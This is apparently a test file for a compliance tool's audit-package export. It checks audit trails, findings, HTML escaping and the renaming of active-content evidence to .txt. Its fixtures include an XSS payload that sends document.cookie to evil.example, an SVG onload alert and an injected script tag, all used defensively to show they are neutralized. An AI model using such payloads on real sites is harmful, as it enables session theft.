/**
 * What an audit package tells an auditor beyond the files: the audit's trail, each control's
 * implementation (status, owner, not-applicable justification), findings in full, a readable
 * summary report; and evidence with active content (HTML, SVG, scripts…) stored under a name no
 * browser opens as a page, bytes and hash unchanged, still verified. Real router, real SQLite,
 * the real zip read back with yauzl.
 */
import { createHash } from 'node:crypto';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createCore, type Core } from '../../../../src-main/core/core';
import { ACTIVE_EXTENSIONS, neutralizeActiveContent } from '../../../../src-main/core/exports/active-content';
import { verifyPackage } from '../../../../src-main/core/exports/verify-package';
import type { AuditPackageOutput, Manifest } from '../../../../src-shared/domain/export';
import { tempDir } from '../../../support/temp-dir';
import { seedFramework } from '../audits/seed-controls';
import { flipByte, readZip } from './zip-util';
import { stagedId } from '../../../support/staged-file';

let dir: ReturnType<typeof tempDir>;
let core: Core;
const ctx = { actor: 'Ana Auditor' };
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

async function ok<T = Record<string, unknown>>(ns: string, method: string, input: unknown): Promise<T> {
  const result = await core.router.call(ns, method, input, ctx);
  if (!result.ok) throw new Error(`${ns}.${method} failed: ${result.error.code} ${result.error.message}`);
  return result.value as T;
}

beforeEach(() => {
  dir = tempDir();
  core = createCore({ dataDir: dir.path, appVersion: '9.9.9', log: { error: () => undefined } });
});
afterEach(() => {
  core.close();
  dir.remove();
});

const PAGE = Buffer.from('<!doctype html><script>fetch("https://evil.example/"+document.cookie)</script>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>');

async function seedPackage() {
  const fw = seedFramework(core.db);
  const [ac1, ac1e, ac2] = fw.controlIds;
  await ok('controls', 'update', { id: ac1, status: 'implemented', owner: 'Dana Reyes', notes: 'Reviewed yearly.' });
  await ok('controls', 'update', { id: ac2, status: 'not_applicable', justification: 'No <b>shared</b> accounts exist.' });
  const audit = await ok<{ id: string }>('audits', 'create', {
    title: 'SOC <2> audit',
    controlIds: [ac1, ac1e, ac2],
    windowStart: '2026-01-01',
    windowEnd: '2026-03-31',
    auditors: ['Ana Auditor'],
  });
  await ok('audits', 'update', { id: audit.id, status: 'fieldwork' });
  await ok('audits', 'recordResult', { auditId: audit.id, controlId: ac1, result: 'fail', notes: 'Sampled 25.' });
  await ok('audits', 'recordResult', { auditId: audit.id, controlId: ac2, result: 'not_applicable' });
  const finding = await ok<{ id: string }>('findings', 'create', {
    auditId: audit.id,
    controlId: ac1,
    title: 'Policy <script>alert(1)</script> outdated',
    severity: 'high',
    condition: 'The policy was last reviewed in 2023.',
    criteria: 'AC-1: review every year.',
    cause: 'No owner.',
    effect: 'Staff follow stale rules.',
    recommendation: 'Name an owner.',
  });
  await ok('findings', 'update', {
    id: finding.id,
    managementResponse: 'Agreed.',
    status: 'accepted',
    riskAcceptedBy: 'CISO',
    riskAcceptanceReason: 'Policy rewrite due in Q3.',
  });
  const add = async (fileName: string, bytes: Buffer) =>
    ok<{ id: string; sha256: string }>('evidence', 'add', {
      title: `Evidence ${fileName}`,
      stagedFileId: await stagedId(core, bytes, fileName),
      asOfDate: '2026-02-01',
      controlIds: [ac1],
    });
  const page = await add('export.HTML', PAGE);
  const svg = await add('diagram.svg', SVG);
  const text = await add('notes.txt', Buffer.from('plain notes\n'));
  const result = await core.router.call('exports', 'auditPackage', { auditId: audit.id }, ctx);
  if (!result.ok) throw new Error(result.error.message);
  const out = result.value as AuditPackageOutput;
  return { out, audit: audit.id, finding: finding.id, page, svg, text, ac1, ac2 };
}

describe('the audit package', () => {
  it('holds the audit trail, every control’s implementation and the findings in full', async () => {
    const { out, audit, finding } = await seedPackage();
    const files = await readZip(out.path);

    const results = JSON.parse(files.get('results.json')!.toString()) as Record<string, string>[];
    expect(
      results.map((r) => [r.control, r.result, r.implementationStatus, r.implementationOwner, r.notApplicableJustification]),
    ).toEqual([
      ['AC-1', 'fail', 'implemented', 'Dana Reyes', ''],
      ['AC-1(1)', 'not_tested', 'not_started', '', ''],
      ['AC-2', 'not_applicable', 'not_applicable', '', 'No <b>shared</b> accounts exist.'],
    ]);
    expect(files.get('results.csv')!.toString().split('\r\n')[0]).toBe(
      'control,controlKey,title,framework,result,notes,testedBy,testedAt,implementationStatus,implementationOwner,notApplicableJustification,implementationNotes,parameters',
    );

    const [f] = JSON.parse(files.get('findings.json')!.toString()) as Record<string, string>[];
    expect(f).toMatchObject({
      condition: 'The policy was last reviewed in 2023.',
      criteria: 'AC-1: review every year.',
      cause: 'No owner.',
      effect: 'Staff follow stale rules.',
      recommendation: 'Name an owner.',
      managementResponse: 'Agreed.',
      status: 'accepted',
      riskAcceptedBy: 'CISO',
      riskAcceptanceReason: 'Policy rewrite due in Q3.',
    });

    // The trail: the same events, in the same order, with the same hashes as the replica.
    const trail = JSON.parse(files.get('trail.json')!.toString()) as {
      id: string;
      recordTable: string;
      recordId: string;
      hash: string;
    }[];
    const stored = core.db
      .prepare(
        `SELECT id FROM audit_events WHERE record_table IN ('audits', 'audit_scope', 'audit_results', 'findings', 'evidence') ORDER BY seq`,
      )
      .pluck()
      .all();
    const auditEventIds = trail.map((t) => t.id);
    expect(stored.filter((id) => auditEventIds.includes(id as string))).toEqual(auditEventIds);
    expect(trail.filter((t) => t.recordTable === 'audits' && t.recordId === audit)).toHaveLength(2); // created, fieldwork
    expect(trail.filter((t) => t.recordTable === 'audit_scope')).toHaveLength(3);
    expect(trail.filter((t) => t.recordTable === 'audit_results')).toHaveLength(2);
    expect(trail.filter((t) => t.recordTable === 'findings' && t.recordId === finding)).toHaveLength(2);
    // Control edits are the organisation's trail, not this audit's.
    expect(trail.some((t) => t.recordTable === 'controls')).toBe(false);
    expect(trail.every((t) => /^[0-9a-f]{64}$/.test(t.hash))).toBe(true);
  });

  it('has a readable, printable summary report with no live markup from user text', async () => {
    const { out, audit } = await seedPackage();
    const files = await readZip(out.path);
    const html = files.get('summary.html')!.toString();
    expect(html).toContain('<title>Audit report: SOC &lt;2&gt; audit</title>');
    expect(html).toContain(`Audit id <code>${audit}</code>`);
    expect(html).toContain("content=\"default-src 'none'; style-src 'unsafe-inline'\"");
    expect(html).toContain('@media print');
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain('Policy &lt;script&gt;alert(1)&lt;/script&gt; outdated');
    expect(html).toContain('<dt>Condition</dt><dd>The policy was last reviewed in 2023.</dd>');
    expect(html).toContain('<dt>Management response</dt><dd>Agreed.</dd>');
    expect(html).toContain('Risk accepted by CISO: Policy rewrite due in Q3.');
    expect(html).toContain('0 pass, 1 fail, 1 not applicable, 1 not tested');
    expect(html).toContain('No &lt;b&gt;shared&lt;/b&gt; accounts exist.');
    expect(html).toMatch(/<td>Implemented<\/td>\s*<td>Dana Reyes<\/td>/);
    expect(html).toMatch(/\d+ events in trail\.json/);
    expect(html).toContain('(stored as text: see manifest)');
  });

  it('stores active content under a name no browser opens as a page, bytes and hash unchanged, and still verifies', async () => {
    const { out, page, svg, text } = await seedPackage();
    const files = await readZip(out.path);
    const manifest = JSON.parse(files.get('manifest.json')!.toString()) as Manifest;
    const byHash = (h: string) => manifest.files.find((f) => f.sha256 === h)!;

    const pageEntry = byHash(page.sha256);
    expect(pageEntry.path).toBe(`evidence/${page.sha256.slice(0, 12)}-export.HTML.txt`);
    expect(files.get(pageEntry.path)!.equals(PAGE)).toBe(true);
    expect(pageEntry.sha256).toBe(sha(PAGE));
    expect(pageEntry.storedAsText).toEqual({
      originalName: 'export.HTML',
      reason: expect.stringMatching(
        /^Stored as “.+-export\.HTML\.txt” so that opening it shows its text instead of running it: “\.html” files open as a page/,
      ),
    });
    const svgEntry = byHash(svg.sha256);
    expect(svgEntry.path).toMatch(/-diagram\.svg\.txt$/);
    expect(files.get(svgEntry.path)!.equals(SVG)).toBe(true);
    // Plain text keeps its name and says nothing.
    const textEntry = byHash(text.sha256);
    expect(textEntry.path).toMatch(/-notes\.txt$/);
    expect(textEntry.storedAsText).toBeUndefined();
    // No entry in the package ends in an active extension.
    for (const name of files.keys()) {
      if (name === 'summary.html' || name.startsWith('policies/')) continue; // ComplyFlow's own escaped pages
      const ext = path.extname(name).slice(1).toLowerCase();
      expect(ACTIVE_EXTENSIONS.has(ext), name).toBe(false);
    }
    const evidence = JSON.parse(files.get('evidence.json')!.toString()) as {
      originalFileName: string;
      file: string;
      storedAsText: string | null;
    }[];
    expect(evidence.find((x) => x.originalFileName === 'export.HTML')).toMatchObject({
      file: pageEntry.path,
      storedAsText: pageEntry.storedAsText!.reason,
    });

    expect(await verifyPackage(out.path)).toEqual({
      ok: true,
      checked: manifest.files.length,
      problems: [],
      signedBy: manifest.signer,
    });
    const tampered = path.join(dir.path, 'tampered.zip');
    await flipByte(out.path, tampered, pageEntry.path, 5);
    expect((await verifyPackage(tampered)).problems).toEqual([
      { file: pageEntry.path, problem: expect.stringContaining('SHA-256 does not match') },
    ]);
  });
});

describe('neutralizeActiveContent', () => {
  it.each([
    ['a.html', 'text/plain', 'a.html.txt'],
    ['a.htm', 'text/html', 'a.htm.txt'],
    ['a.XHTML', 'application/xhtml+xml', 'a.XHTML.txt'],
    ['a.svg', 'image/svg+xml', 'a.svg.txt'],
    ['a.xml', 'application/xml', 'a.xml.txt'],
    ['a.mht', 'message/rfc822', 'a.mht.txt'],
    ['a.js', 'text/javascript', 'a.js.txt'],
    ['a.hta', 'application/octet-stream', 'a.hta.txt'],
    ['a.vbs', 'text/plain', 'a.vbs.txt'],
    ['a.lnk', 'application/octet-stream', 'a.lnk.txt'],
    ['setup.exe', 'application/octet-stream', 'setup.exe.txt'],
    ['README', 'text/plain', 'README.txt'],
    ['report.pdf', 'text/html', 'report.pdf.txt'], // typed as a page: neutralized whatever the name says
    ['report.pdf', 'application/pdf', null],
    ['shot.png', 'image/png', null],
    ['sheet.csv', 'text/csv', null],
    ['log.txt', 'text/plain', null],
    ['data.json', 'application/json', null],
    ['memo.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', null],
  ])('%s (%s) → %s', (name, mime, expected) => {
    expect(neutralizeActiveContent(name, mime)?.name ?? null).toBe(expected);
  });
});
